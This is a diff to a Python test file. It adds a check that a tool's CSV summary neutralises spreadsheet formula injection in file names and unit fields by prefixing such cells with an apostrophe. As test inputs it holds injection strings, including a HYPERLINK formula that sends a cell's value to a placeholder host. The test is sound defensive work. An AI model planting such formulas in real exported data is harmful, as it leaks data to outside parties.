@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import contextlib
 import csv
+import io
 import json
 import shutil
 from pathlib import Path
@@ -81,6 +83,28 @@ def test_summary_json_and_a_wrong_extension(folder: Path, tmp_path: Path) -> Non
     assert row["failed_rules"] == "cites-parent;has-own-date" and row["errors"] == 1
     code, _, err = run("check", str(folder / "no-basis.txt"), "--summary", str(tmp_path / "x.xlsx"))
     assert code == 2 and "x.xlsx" in err and not (tmp_path / "x.xlsx").exists()
+
+
+def test_summary_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
+    # A file named, or an expected unit written, like a formula would run as one in a spreadsheet: in the CSV
+    # such a cell starts with ' (OWASP), which spreadsheet programs show as text; the JSON keeps the value.
+    names = ["=1+2.txt", "+SUM(A1).txt", "-2+3.txt", "@SUM(A1).txt", "\tx.txt", "\rx.txt", "ok.txt"]
+    for name in names:
+        shutil.copy(DEFECTS / "no-basis.txt", tmp_path / name)
+    units = tmp_path / "don-vi.txt"
+    units.write_text('=HYPERLINK("http://example.invalid/?"&A1;"Bấm")\n', encoding="utf-8")
+    with contextlib.chdir(tmp_path):
+        for summary in ("tong-hop.csv", "tong-hop.json"):
+            code, _, err = run("check", "--expect", str(units), "--summary", summary, "--", *names)
+            assert code == 1, err
+    text = (tmp_path / "tong-hop.csv").read_bytes().decode("utf-8-sig")  # CR kept
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert [r["path"] for r in rows] == ["'" + n if n != "ok.txt" else n for n in names] + [""]
+    assert rows[-1]["unit"] == "'" + units.read_text(encoding="utf-8").strip()
+    assert rows[0]["failed_rules"] == "cites-parent;has-own-date"  # other cells as they were
+    raw = json.loads((tmp_path / "tong-hop.json").read_text(encoding="utf-8"))
+    assert [r["path"] for r in raw] == [*names, None]
+    assert raw[-1]["unit"].startswith("=HYPERLINK(")
 
 
 def test_the_summary_schema_rejects_a_bad_row() -> None:
